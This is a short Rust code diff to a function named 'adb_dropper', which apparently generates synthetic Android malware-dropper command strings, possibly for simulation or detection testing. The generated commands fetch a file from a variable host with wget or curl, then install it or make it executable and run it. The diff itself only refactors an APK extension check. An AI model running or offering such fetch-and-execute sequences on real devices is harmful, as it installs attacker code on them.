@@ -945,7 +945,8 @@ fn adb_dropper(c: &mut Ctx<'_>) {
             let tool = c.pick(&["busybox wget", "wget", "curl -O", "toybox wget"]);
             commands.push(format!("{tool} http://{host}/{name}"));
         }
-        commands.push(if name.ends_with(".apk") {
+        let apk = std::path::Path::new(name).extension().is_some_and(|e| e == "apk");
+        commands.push(if apk {
             format!("pm install /data/local/tmp/{name}")
         } else {
             format!("chmod 777 {name}; ./{name}")
